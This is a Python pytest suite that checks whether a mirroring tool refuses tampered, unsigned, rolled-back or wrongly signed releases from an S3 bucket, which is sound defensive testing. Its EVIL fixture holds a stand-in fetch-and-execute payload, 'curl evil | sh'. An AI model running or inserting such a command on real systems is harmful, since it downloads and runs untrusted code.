"""The TUF attack list against signed releases, over HTTP against moto: the deployer signs with its key, the
attacker may write anything to the bucket but has no trusted private key, and DEST never changes."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from dagmirror.errors import PassFailed
from dagmirror.manifest import body_key, manifest_key, pointer_key, sha256_hex
from dagmirror.models import SyncReport

from .helpers import read_tree, sdk_credentials
from .releases import publish
from .signed import Fleet, new_key, trust_file

PREFIX = "dags/prod/"
V1 = {"etl/load.py": b"load = 1\n", "common/util.py": b"def util():\n    return 1\n"}
V2 = {"etl/load.py": b"load = 2  # the fix\n", "common/util.py": b"def util():\n    return 2\n"}
EVIL = {"etl/load.py": b"import os; os.system('curl evil | sh')\n"}


@pytest.fixture(autouse=True)
def credentials() -> Iterator[None]:
    with sdk_credentials():
        yield


@pytest.fixture
def fleet(bucket: str, moto_endpoint: str, tmp_path: Path) -> Fleet:
    return Fleet(bucket, moto_endpoint, tmp_path)


@pytest.fixture
def ci_key(tmp_path: Path) -> Path:
    return new_key(tmp_path, "ci")


@pytest.fixture
def trust(tmp_path: Path, ci_key: Path) -> Path:
    return trust_file(tmp_path, "prod-trust", {ci_key: ["**"]})


async def installed(fleet: Fleet, ci_key: Path, trust: Path, dest: Path) -> SyncReport:
    """V1 deployed signed and mirrored: the state every attack starts from."""
    deployed = await fleet.deploy(V1, sign_keys=[str(ci_key)])
    report = await fleet.sync(dest, trust)
    assert (report.release, report.untrusted, report.failed) == (deployed.release, None, 0)
    assert read_tree(dest) == V1
    return report


def refused(report: SyncReport, dest: Path, why: str) -> None:
    assert report.untrusted is not None, report
    assert why in report.untrusted
    assert (report.failed, report.downloaded, report.deleted) == (1, 0, 0)
    assert read_tree(dest) == V1


def pointer_doc(s3: Any, bucket: str, prefix: str = PREFIX) -> dict[str, Any]:
    return dict(orjson.loads(s3.get_object(Bucket=bucket, Key=pointer_key(prefix))["Body"].read()))


def put(s3: Any, bucket: str, key: str, body: bytes) -> None:
    s3.put_object(Bucket=bucket, Key=key, Body=body)


async def test_an_unsigned_release_written_by_the_attacker_is_refused(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    publish(s3, bucket, PREFIX, EVIL, seq=99)
    refused(await fleet.sync(dest, trust), dest, "unsigned and this mirror trusts only signed releases")


async def test_a_release_signed_by_the_attackers_own_key_is_refused(
    fleet: Fleet, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    attacker = new_key(tmp_path, "attacker")
    await fleet.deploy(EVIL, sign_keys=[str(attacker)])
    refused(await fleet.sync(dest, trust), dest, "0 valid signature(s) of a trusted key")


async def test_a_signed_pointer_edited_by_the_attacker_is_refused(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    evil = publish(s3, bucket, "dags/elsewhere/", EVIL)  # an unsigned manifest the attacker wants installed
    doc = pointer_doc(s3, bucket)
    doc |= {"release": evil, "seq": doc["seq"] + 1}  # the CI key's signatures, kept as they were
    put(s3, bucket, pointer_key(PREFIX), orjson.dumps(doc))
    refused(await fleet.sync(dest, trust), dest, "0 valid signature(s)")


async def test_a_manifest_swapped_under_a_signed_pointer_is_never_installed(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    v2 = await fleet.deploy(V2, sign_keys=[str(ci_key)])
    evil_manifest = (
        s3.get_object(Bucket=bucket, Key=manifest_key(v2.release))["Body"]
        .read()
        .replace(sha256_hex(V2["etl/load.py"]).encode(), sha256_hex(EVIL["etl/load.py"]).encode())
    )
    put(s3, bucket, manifest_key(v2.release), evil_manifest)
    refused(await fleet.sync(dest, trust), dest, "not the release the pointer names")


async def test_a_body_swapped_in_the_bucket_is_never_installed(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    await fleet.deploy(V2, sign_keys=[str(ci_key)])
    same_size = b"import os;os.exit()" + b"\n"  # as long as the signed body: only its SHA-256 tells
    assert len(same_size) == len(V2["etl/load.py"])
    put(s3, bucket, body_key(sha256_hex(V2["etl/load.py"])), same_size)
    s3.delete_object(
        Bucket=bucket, Key=f"metadata/releases/archives/{pointer_doc(s3, bucket)['release']}.tar.zst"
    )
    async with fleet.mirror(dest, trust) as mirror:
        with pytest.raises(PassFailed, match="does not match its SHA-256"):
            await mirror.sync_once()
    assert read_tree(dest) == V1


async def test_rollback_to_an_older_signed_pointer_is_refused(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await fleet.deploy(V1, sign_keys=[str(ci_key)])
    old = s3.get_object(Bucket=bucket, Key=pointer_key(PREFIX))["Body"].read()  # signed, seq 1
    await fleet.deploy(V2, sign_keys=[str(ci_key)])
    first = await fleet.sync(dest, trust)
    assert (first.release_seq, read_tree(dest)) == (2, V2)
    put(s3, bucket, pointer_key(PREFIX), old)  # a replay of a validly signed, older, vulnerable release
    report = await fleet.sync(dest, trust)
    assert "not newer than seq 2" in (report.untrusted or "")
    assert read_tree(dest) == V2


async def test_an_intentional_rollback_publishes_a_newer_signed_release_of_the_old_content(
    fleet: Fleet, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    v1 = await fleet.deploy(V1, sign_keys=[str(ci_key)])
    await fleet.deploy(V2, sign_keys=[str(ci_key)])
    assert (await fleet.sync(dest, trust)).release_seq == 2
    assert v1.release is not None
    back = await fleet.rollback("prod", v1.release, sign_keys=[str(ci_key)])
    assert back.pointer_seq == 3  # a new release, seq 3, holding V1's files
    assert back.release != v1.release
    report = await fleet.sync(dest, trust)
    assert (report.release, report.release_seq, report.untrusted) == (back.release, 3, None)
    assert read_tree(dest) == V1


async def test_a_frozen_pointer_is_reported_stale_once_it_expires(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    expires = pointer_doc(s3, bucket)["expires"]
    later = lambda: expires + 1.0  # noqa: E731 - the mirror's clock, past the signed expiry
    report = await fleet.sync(dest, trust, clock=later)  # the pointer is unchanged (a 304): still stale
    refused(report, dest, "stale")
    assert report.requests == {"GET 304": 1}
    put(s3, bucket, pointer_key(PREFIX), s3.get_object(Bucket=bucket, Key=pointer_key(PREFIX))["Body"].read())
    refused(await fleet.sync(dest, trust, clock=later), dest, "expired at")  # served again: still stale


async def test_a_pointer_and_a_manifest_of_different_releases_do_not_mix(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    v1_pointer = pointer_doc(s3, bucket)
    v2 = await fleet.deploy(V2, sign_keys=[str(ci_key)])
    v1_manifest = s3.get_object(Bucket=bucket, Key=manifest_key(v1_pointer["release"]))["Body"].read()
    put(s3, bucket, manifest_key(str(v2.release)), v1_manifest)  # v2's signed pointer, v1's signed manifest
    refused(await fleet.sync(dest, trust), dest, "not the release the pointer names")
    dev = await fleet.deploy(EVIL, env="dev", sign_keys=[str(ci_key)])  # signed, but for another environment
    assert dev.release is not None
    put(
        s3,
        bucket,
        pointer_key(PREFIX),
        s3.get_object(Bucket=bucket, Key=pointer_key("dags/dev/"))["Body"].read(),
    )
    refused(await fleet.sync(dest, trust), dest, "names prefix 'dags/dev/', expected 'dags/prod/'")


async def test_a_manifest_or_body_larger_than_signed_is_not_read_past_its_size(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    v2 = await fleet.deploy(V2, sign_keys=[str(ci_key)])
    manifest = s3.get_object(Bucket=bucket, Key=manifest_key(str(v2.release)))["Body"].read()
    put(s3, bucket, manifest_key(str(v2.release)), manifest + b" " * (1 << 20))  # endless data
    refused(await fleet.sync(dest, trust), dest, f"exceeds the listed size {len(manifest)}")
    put(s3, bucket, manifest_key(str(v2.release)), manifest)
    digest = sha256_hex(V2["etl/load.py"])
    put(s3, bucket, body_key(digest), V2["etl/load.py"] + b"#" * (1 << 20))
    s3.delete_object(Bucket=bucket, Key=f"metadata/releases/archives/{v2.release}.tar.zst")
    async with fleet.mirror(dest, trust) as mirror:
        with pytest.raises(PassFailed, match=f"exceeds the listed size {len(V2['etl/load.py'])}"):
            await mirror.sync_once()
    assert read_tree(dest) == V1


async def test_a_new_key_signed_by_the_old_one_is_trusted_without_a_restart(
    fleet: Fleet, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    from click.testing import CliRunner

    from dagmirror.cli import cli

    dest = tmp_path / "dest"
    await fleet.deploy(V1, sign_keys=[str(ci_key)])
    new = new_key(tmp_path, "ci-2026")
    statement = CliRunner().invoke(cli, ["keys", "rotate", "--old", str(ci_key), "--new", str(new)]).output
    rotation = tmp_path / "rotation.json"
    rotation.write_text(statement)
    async with fleet.mirror(dest, trust) as mirror:  # one mirror process throughout: no restart
        assert (await mirror.sync_once()).untrusted is None
        await fleet.deploy(V2, sign_keys=[str(new)], rotations=[str(rotation)])
        moved = await mirror.sync_once()
        assert (moved.untrusted, read_tree(dest)) == (None, V2)
        third = {**V2, "etl/more.py": b"more = 1\n"}
        await fleet.deploy(third, sign_keys=[str(new)])  # the statement is remembered in the state
        assert (await mirror.sync_once()).untrusted is None
        assert read_tree(dest) == third
        await fleet.deploy(EVIL, sign_keys=[str(ci_key)], allow_mass_delete=True)  # the replaced key
        report = await mirror.sync_once()
    assert "0 valid signature(s)" in (report.untrusted or "")
    assert read_tree(dest) == third


async def test_a_team_key_signs_only_its_own_folder(fleet: Fleet, tmp_path: Path) -> None:
    team_a = new_key(tmp_path, "team-a")
    trust = trust_file(tmp_path, "dev-trust", {team_a: ["team_a/**"]})
    dest = tmp_path / "dest"
    mine = {"team_a/etl.py": b"a = 1\n"}
    await fleet.deploy(mine, env="dev", sign_keys=[str(team_a)])
    assert (await fleet.sync(dest, trust, env="dev")).untrusted is None
    assert read_tree(dest) == mine
    await fleet.deploy({**mine, "team_b/etl.py": b"b = 1\n"}, env="dev", sign_keys=[str(team_a)])
    report = await fleet.sync(dest, trust, env="dev")
    assert "'team_b/etl.py' is not signed by a key allowed" in (report.untrusted or "")
    assert read_tree(dest) == mine


async def test_without_trust_unsigned_and_signed_releases_both_install(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    publish(s3, bucket, PREFIX, V1)
    assert (await fleet.sync(dest, None)).failed == 0
    await fleet.deploy(V2, sign_keys=[str(ci_key)])
    assert (await fleet.sync(dest, None)).failed == 0
    assert read_tree(dest) == V2


async def test_trust_turned_on_refuses_the_unsigned_release_dest_already_holds(
    fleet: Fleet, s3: Any, bucket: str, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    publish(s3, bucket, PREFIX, V1)
    assert (await fleet.sync(dest, None)).failed == 0
    report = await fleet.sync(dest, trust)  # the same pointer: read again (no 304 shortcut), and refused
    assert "unsigned" in (report.untrusted or "")
    assert report.requests == {"GET 200": 1}


async def test_trust_never_falls_back_to_listing_a_prefix_without_a_pointer(
    fleet: Fleet, s3: Any, bucket: str, trust: Path, tmp_path: Path
) -> None:
    s3.put_object(Bucket=bucket, Key=f"{PREFIX}evil.py", Body=EVIL["etl/load.py"])
    async with fleet.mirror(tmp_path / "dest", trust) as mirror:
        with pytest.raises(PassFailed, match="only signed releases are installed"):
            await mirror.sync_once()
    assert not (tmp_path / "dest" / "evil.py").exists()


async def test_a_signed_no_op_poll_is_still_one_request(
    fleet: Fleet, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    await installed(fleet, ci_key, trust, dest)
    report = await fleet.sync(dest, trust)
    assert report.requests == {"GET 304": 1}
    assert (report.untrusted, report.failed, report.unchanged) == (None, 0, len(V1))


async def test_a_rollback_to_the_current_release_re_signs_it_with_a_fresh_expiry(
    fleet: Fleet, s3: Any, bucket: str, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dest = tmp_path / "dest"
    first = await installed(fleet, ci_key, trust, dest)
    expires = pointer_doc(s3, bucket)["expires"]
    assert first.release is not None
    await asyncio.sleep(0.01)
    again = await fleet.rollback("prod", first.release, sign_keys=[str(ci_key)])
    assert again.pointer_seq == 2
    renewed = pointer_doc(s3, bucket)["expires"]
    assert renewed > expires
    # between the two expiries: the old pointer would be stale by then, the re-signed one is not (the two
    # deploys may be well under a second apart, so a fixed offset past the old expiry could pass both)
    between = (expires + renewed) / 2
    report = await fleet.sync(dest, trust, clock=lambda: between)
    assert (report.untrusted, report.release_seq, report.downloaded) == (None, 2, 0)
    assert read_tree(dest) == V1


async def test_promote_signs_the_release_it_makes_for_the_target(
    fleet: Fleet, ci_key: Path, trust: Path, tmp_path: Path
) -> None:
    dev_key = new_key(tmp_path, "dev")
    await fleet.deploy(V1, env="dev", sign_keys=[str(dev_key)])  # dev: a key production does not trust
    promoted = await fleet.promote("dev", "prod", sign_keys=[str(ci_key)])
    report = await fleet.sync(tmp_path / "dest", trust)
    assert (report.release, report.untrusted) == (promoted.release, None)
    assert read_tree(tmp_path / "dest") == V1


async def test_threshold_two_installs_only_releases_both_keys_signed(
    fleet: Fleet, ci_key: Path, tmp_path: Path
) -> None:
    second = new_key(tmp_path, "security-team")
    trust = trust_file(tmp_path, "two", {ci_key: ["**"], second: ["**"]}, threshold=2)
    dest = tmp_path / "dest"
    await fleet.deploy(V1, sign_keys=[str(ci_key), str(second)])
    assert (await fleet.sync(dest, trust)).untrusted is None
    await fleet.deploy(V2, sign_keys=[str(ci_key)])  # one stolen key is not enough
    report = await fleet.sync(dest, trust)
    assert "1 valid signature(s) of a trusted key, needs 2" in (report.untrusted or "")
    assert read_tree(dest) == V1
